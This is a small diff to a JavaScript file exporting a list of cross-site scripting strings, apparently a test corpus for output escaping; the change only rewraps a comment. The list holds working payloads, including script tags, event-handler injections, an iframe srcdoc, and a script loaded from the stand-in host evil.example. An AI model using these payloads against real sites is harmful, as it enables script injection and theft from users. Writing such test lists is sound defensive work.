@@ -1,5 +1,5 @@
-// Ways to get markup or script into a page that forgets to escape, once each: text, attributes of both quotes, tags that
-// are cut off, other encodings, addresses, templates, and what browsers repair.
+// Ways to get markup or script into a page that forgets to escape, once each: text, attributes of
+// both quotes, truncated tags, other encodings, addresses, templates, and what browsers repair.
 export const strings = [
     '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>',
     '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<body onload=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">',
